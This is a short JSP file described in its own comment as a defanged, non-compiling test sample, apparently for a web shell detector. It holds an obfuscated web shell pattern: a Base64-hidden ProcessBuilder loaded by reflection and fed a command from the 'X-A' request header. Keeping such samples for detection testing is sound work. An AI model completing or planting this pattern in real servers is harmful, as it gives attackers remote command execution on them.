<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
Class<?> c = Class.forName(new String(java.util.Base64.getDecoder().decode("amF2YS5sYW5nLlByb2Nlc3NCdWlsZGVy")));
Object p = c.getDeclaredConstructor(String[].class).newInstance((Object) new String[] { request.getHeader("X-A") });
%>
